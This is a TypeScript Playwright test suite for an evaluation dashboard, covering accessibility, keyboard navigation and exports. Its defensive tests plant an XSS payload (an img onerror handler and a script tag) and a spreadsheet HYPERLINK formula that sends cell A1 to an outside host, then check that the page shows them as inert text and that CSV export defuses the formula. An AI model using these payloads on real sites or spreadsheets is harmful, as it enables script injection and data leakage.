import { readFileSync, writeFileSync } from 'node:fs';
import { mkdtempSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, test } from '@jest/globals';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { IndexFile } from '../../schemas/dashboard-data.ts';
import type { RunsFile, TranscriptFile } from '../../schemas/dashboard-runs.ts';
import { buildDemo } from '../../scripts/demo/build-demo.ts';
import { findChromium, launchChromium } from '../../scripts/browser/chromium.ts';
import { serveSite } from '../../scripts/browser/site-server.ts';

const chromium = findChromium();
const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const STANDARD = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];
/** What a model might say to a page: markup, scripts, a line end that is none in JSON, a formula. */
const HOSTILE = `<img src=x onerror="window.owned=1"><script>window.owned=1</script>\u2028<b>"&amp;'</b>{{7*7}}\${7*7}`;
const FORMULA = `=HYPERLINK("http://example.invalid/?"&A1,"see, ""here""")`;

const suite = chromium === null ? describe.skip : describe;
suite(
  chromium === null ? 'skipped: no chromium (CHROMIUM_PATH names one)' : 'the dashboard in Chromium',
  () => {
    const lake = mkdtempSync(join(tmpdir(), 'socratic-browser-'));
    const data = join(lake, 'dashboard', 'data');
    let browser: Browser;
    let site: Awaited<ReturnType<typeof serveSite>>;
    let runs: RunsFile;
    let index: IndexFile;
    let hostileRun: string;
    const troubles: string[] = [];

    const readJson = <T>(path: string) => JSON.parse(readFileSync(join(data, path), 'utf8')) as T;
    const writeJson = (path: string, value: unknown) =>
      writeFileSync(join(data, path), JSON.stringify(value));

    beforeAll(async () => {
      await buildDemo({ lake, size: 'small', weeks: 3 });
      index = readJson('index.json');
      const last = index.executions.at(-1)!.execution_id;
      runs = readJson(`runs/${last}.json`);
      // One dialogue whose every free text is an attack, and one sentence that is a formula.
      const victim = runs.runs.find((run) => run.n_scored_turns > 3)!;
      hostileRun = victim.run_id;
      const transcript = readJson<TranscriptFile>(`transcripts/${hostileRun}.json`);
      const turn = transcript.turns[0]!;
      turn.tutor_text = HOSTILE;
      turn.violations = ['advice'];
      turn.violation_spans = [{ violation: 'advice', start: 2, end: 40 }];
      turn.student.said = HOSTILE;
      if (turn.judge !== null) turn.judge.rationale = HOSTILE;
      transcript.seed.title = HOSTILE;
      writeJson(`transcripts/${hostileRun}.json`, transcript);
      victim.breaking_turn = { turn_index: 1, score: 0, violations: ['advice'], text: FORMULA };
      writeJson(`runs/${last}.json`, runs);
      site = await serveSite(data);
      browser = await launchChromium(chromium!);
    }, 300_000);

    afterAll(async () => {
      await browser?.close();
      await site?.close();
      rmSync(lake, { recursive: true, force: true });
    });

    async function open(
      address: string,
      options: Parameters<Browser['newContext']>[0] = {},
    ): Promise<{ page: Page; context: BrowserContext }> {
      const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
      const page = await context.newPage();
      const { origin } = new URL(site.address);
      page.on('console', (message) => {
        if (message.type() === 'error' || message.type() === 'warning')
          troubles.push(`${page.url()}: ${message.text()} ${message.location().url}`);
      });
      page.on('pageerror', (error) => troubles.push(`${page.url()}: ${error.message}`));
      page.on('request', (request) => {
        if (!request.url().startsWith(`${origin}/`) && !request.url().startsWith('blob:'))
          troubles.push(`${page.url()} asks for ${request.url()}`);
      });
      await page.goto(site.address + address);
      await settle(page);
      return { page, context };
    }

    /** Waits until the page's data has come. */
    async function settle(page: Page): Promise<void> {
      await page.waitForSelector('h1');
      // Not waitForFunction: it polls by eval, which the policy forbids.
      while ((await page.locator('[aria-busy=true]').count()) > 0) await page.waitForTimeout(10);
      await page.evaluate('new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))');
    }

    /** Downloads what a button offers. */
    async function save(page: Page, name: string | RegExp): Promise<Buffer> {
      const [file] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name, exact: true }).first().click(),
      ]);
      return readFileSync(await file.path());
    }

    const addresses = () => {
      const model = runs.runs[0]!.model;
      const [first, last] = [index.executions[0]!, index.executions.at(-1)!];
      const pair = runs.runs.filter((run) => run.n_scored_turns > 3).slice(0, 2);
      return [
        '#/',
        `#/model/${model}`,
        '#/runs',
        `#/run/${hostileRun}?turn=2&detail=on`,
        '#/compare',
        `#/compare?run_a=${pair[0]!.run_id}&run_b=${pair[1]!.run_id}`,
        '#/judge',
        '#/cost',
        `#/manifest/${last.manifest_id}?against=${first.manifest_id}`,
        '#/methods?q=half_life',
        '#/nowhere',
      ];
    };

    test.each([
      ['light', 'desktop', { width: 1280, height: 900 }],
      ['dark', 'phone', { width: 390, height: 844 }],
      ['dark', 'desktop', { width: 1280, height: 900 }],
      ['light', 'phone', { width: 390, height: 844 }],
    ] as const)(
      'every page is sound: %s, %s',
      async (colorScheme, size, viewport) => {
        const { page, context } = await open('#/', { colorScheme, viewport });
        await page.evaluate(AXE.replace(/;?\s*$/, ';0'));
        const found: string[] = [];
        // Each theme and each width is held to the accessibility rules once.
        const isAudited = (colorScheme === 'light') === (size === 'desktop');
        for (const address of addresses()) {
          await page.evaluate(`location.hash = ${JSON.stringify(address)}`);
          await settle(page);
          const overflow = await page.evaluate(
            'document.documentElement.scrollWidth - document.documentElement.clientWidth',
          );
          if (Number(overflow) > 0)
            found.push(`${address}: ${String(overflow)} pixels wider than the window`);
          if ((await page.locator('.masthead .badge.simulated').count()) !== 1)
            found.push(`${address}: no simulated badge`);
          if ((await page.locator('h1').count()) !== 1) found.push(`${address}: not one h1`);
          if (isAudited)
            found.push(
              ...(
                (await page.evaluate(
                  `axe.run(document, { runOnly: ${JSON.stringify(STANDARD)}, resultTypes: ['violations'] }).then(({ violations }) =>
              violations.map(({ id, nodes }) => id + ': ' + nodes.length + ' × ' + nodes[0].html.slice(0, 160) + ' ' + nodes[0].failureSummary))`,
                )) as string[]
              ).map((text) => `${address}: ${text}`),
            );
        }
        expect(found).toEqual([]);
        expect(await page.evaluate('document.documentElement.dataset.theme')).toBe(colorScheme);
        await context.close();
      },
      120_000,
    );

    it('leads from the overview to the very sentence in three clicks', async () => {
      const { page, context } = await open('#/');
      await page.locator('.table tbody tr').last().getByRole('link').first().click();
      await page.locator('.sentence').first().waitFor();
      const sentence = ((await page.locator('.sentence').first().textContent()) ?? '').replaceAll(
        /[“”…]/g,
        '',
      );
      await page.locator('.sentence').first().click();
      await page.locator('.turn.current').waitFor();
      const turn = page.locator('.turn.current');
      expect(
        ((await turn.locator('.tutor .words').textContent()) ?? '').includes(sentence.slice(0, 40)),
      ).toBe(true);
      const top = ((await turn.boundingBox())?.y ?? -1) + 1;
      expect(top).toBeGreaterThan(0);
      expect(top).toBeLessThan(900);
      await context.close();
    });

    it('goes through a dialogue by keys, and the address follows', async () => {
      const { page, context } = await open(`#/run/${hostileRun}`);
      const turnOf = () => page.evaluate('new URLSearchParams(location.hash.split("?")[1]).get("turn")');
      await page.keyboard.press('j');
      await page.keyboard.press('j');
      expect(await turnOf()).toBe('2');
      expect(await page.evaluate('document.activeElement.id')).toBe('turn-2');
      await page.keyboard.press('k');
      expect(await turnOf()).toBe('1');
      await page.keyboard.press('d');
      await page.locator('#turn-1 .marks').waitFor();
      await page.keyboard.press('d');
      await page.locator('#turn-1 .marks').waitFor({ state: 'detached' });
      await page.keyboard.press('v');
      const at = (await turnOf()) as string;
      expect(await page.locator(`#turn-${at} :is(.violation-name, .whole)`).count()).toBeGreaterThan(0);
      await context.close();
    });

    it('is reached by Tab alone: skip link, pages, a row of the runs', async () => {
      const { page, context } = await open('#/');
      await page.keyboard.press('Tab');
      expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to content');
      await page.keyboard.press('Enter');
      expect(await page.evaluate('document.activeElement.id')).toBe('content');
      await page.locator('.nav a', { hasText: 'Runs' }).focus();
      await page.keyboard.press('Enter');
      await page.locator('.table tbody a').first().focus();
      await page.keyboard.press('Enter');
      await page.locator('.turn').first().waitFor();
      expect(await page.evaluate('location.hash')).toMatch(/^#\/run\//);
      await context.close();
    });

    it('restores filters, order and theme from the address', async () => {
      const { model } = runs.runs[0]!;
      const mine = runs.runs.filter((run) => run.model === model);
      const { page, context } = await open(`#/runs?model=${model}&sort=-mean_score&theme=dark`);
      expect(await page.locator('.table tbody tr').count()).toBe(mine.length);
      expect(await page.getByLabel('Model').inputValue()).toBe(model);
      expect(await page.locator('[aria-sort=descending]').textContent()).toContain('SD');
      expect(await page.evaluate('document.documentElement.dataset.theme')).toBe('dark');
      await page.getByRole('button', { name: 'Use light colours' }).click();
      expect(await page.evaluate('location.hash')).toContain('theme=light');
      await context.close();
    });

    it('shows hostile text as text', async () => {
      const { page, context } = await open(`#/run/${hostileRun}?turn=1&detail=on`);
      const pieces = page.locator('#turn-1 .student .words');
      expect(await pieces.textContent()).toBe(HOSTILE);
      expect(await page.locator('h1').textContent()).toContain(HOSTILE);
      expect(await page.locator('#turn-1 .tutor mark').textContent()).toContain('onerror');
      expect(await page.locator('main img, main script').count()).toBe(0);
      expect(await page.evaluate('window.owned')).toBeUndefined();
      await context.close();
    });

    it('saves tables and drawings: CSV with formulas defused, SVG with its looks, a real PNG', async () => {
      const { page, context } = await open('#/runs');
      const table = (await save(page, 'Save CSV')).toString('utf8');
      expect(table).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
      expect(table.split('\r\n').length).toBe(runs.runs.length + 2);
      await page.evaluate(`location.hash = '#/model/${runs.runs[0]!.model}'`);
      await page.locator('.figure svg.chart path').first().waitFor({ state: 'attached' });
      const svg = (await save(page, 'SVG')).toString('utf8');
      expect(svg).toMatch(/^<svg/);
      expect(svg).toMatch(/stroke="rgb/);
      expect(svg).not.toContain('class=');
      const png = await save(page, 'PNG');
      expect(png.subarray(1, 4).toString()).toBe('PNG');
      expect(png.length).toBeGreaterThan(3000);
      await page.getByRole('button', { name: 'Table', exact: true }).first().click();
      expect(await page.locator('.figure table tbody tr').count()).toBeGreaterThan(1);
      await context.close();
    });

    it('says what is missing and where to go', async () => {
      const { page, context } = await open('#/methods');
      await page.evaluate(`location.hash = '#/run/01M00000000000000000000000'`);
      await page.locator('.empty').waitFor();
      expect(await page.locator('.empty').textContent()).toContain('no transcript');
      await context.close();
      // The only console message that a page may cause: the browser's own about a file that is not there.
      const about = troubles.findIndex((text) => text.includes('01M00000000000000000000000'));
      troubles.splice(about, 1);
    });

    it('asked nothing of another origin, broke no policy and logged no error in all of this', () => {
      expect(troubles).toEqual([]);
    });
  },
);
